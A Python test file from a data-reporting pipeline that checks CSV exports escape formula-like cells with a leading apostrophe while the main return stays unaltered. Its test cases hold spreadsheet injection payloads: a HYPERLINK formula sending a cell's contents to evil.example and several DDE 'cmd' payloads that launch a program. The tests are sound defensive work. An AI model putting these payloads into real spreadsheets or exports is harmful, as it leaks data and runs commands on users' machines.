"""The CSVs beside the return that a person opens in Excel (issue 19, point 6): a value that
Excel would run as a formula is written as text (a leading apostrophe), as the workbook does;
the CLD return itself is written as it is and validated, never altered."""

from __future__ import annotations

import csv
import re
from datetime import date

import pandas as pd
import pytest

from cldetl.publish.portal_file import write_portal_csv
from cldetl.publish.write import write_csv
from cldetl.spec.period import ReportingPeriod
from cldetl.transform import transform
from tests.test_reconciliation import _frames, _person, _step
from tests.testshire import MAPPING

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
CASES = [
    # (cell, as written)
    (HYPERLINK, "'" + HYPERLINK),
    (CMD, "'" + CMD),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    # a plain negative number is a number, not a formula (the DLP's own exception)
    ("-10.50", "-10.50"),
    ("-3", "-3"),
    # text with the characters elsewhere is left alone
    ("A=B", "A=B"),
    ("cost +5", "cost +5"),
    ("", ""),
]


def _id(value) -> str:
    """A test id of plain characters (mutmut passes ids on a command line)."""
    return re.sub(r"[^A-Za-z0-9.,=+@-]", "_", repr(value))


@pytest.mark.parametrize(("cell", "written"), CASES, ids=[_id(c[0]) for c in CASES])
def test_a_formula_like_cell_is_written_as_text(tmp_path, cell, written):
    path = tmp_path / "unmapped_codes.csv"
    write_csv(pd.DataFrame({"code": [cell], "rows": [1]}), path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["code", "rows"], [written, "1"]]


def test_local_codes_that_look_like_formulas_in_unmapped_codes_csv(tmp_path):
    """End to end from the transform: the codes are listed (never dropped) and neutralised."""
    steps = [
        _step(10, 1, 1003, "2025-05-01", "2025-05-20", outcome1=HYPERLINK),
        _step(11, 1, 1003, "2025-06-01", "2025-06-20", outcome1=CMD),
    ]
    frames = _frames(people=[_person(1)], steps=steps)
    result = transform(MAPPING, frames, ReportingPeriod.ending(date(2025, 9, 30)))
    assert {HYPERLINK, CMD} <= set(result.unmapped["code"])
    path = tmp_path / "unmapped_codes.csv"
    write_csv(result.unmapped, path)
    with path.open(newline="", encoding="utf-8") as handle:
        codes = {row["code"] for row in csv.DictReader(handle)}
    assert {"'" + HYPERLINK, "'" + CMD} <= codes
    assert not {c for c in codes if c[:1] in "=+-@\t\r"}


def test_the_cld_return_itself_is_never_altered(tmp_path):
    frame = pd.DataFrame({"Event Description": [HYPERLINK, "-10.50"]})
    path = tmp_path / "CLD.csv"
    write_portal_csv(frame, path, encoding="utf-8")
    assert HYPERLINK.replace('"', '""') in path.read_text(encoding="utf-8")
    assert "'=" not in path.read_text(encoding="utf-8")


def test_only_the_formula_cells_of_a_column_change(tmp_path):
    """Rows picked from a larger frame (their index is not 0..n-1), a missing value, and plain
    text beside formula text in one column."""
    frame = pd.DataFrame(
        {"code": [CMD, "plain", None, "-2"], "rows": [1, 2, 3, 4]}, index=[7, 3, 9, 1]
    )
    path = tmp_path / "exclusions.csv"
    write_csv(frame, path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["code", "rows"], ["'" + CMD, "1"], ["plain", "2"], ["", "3"], ["-2", "4"]]
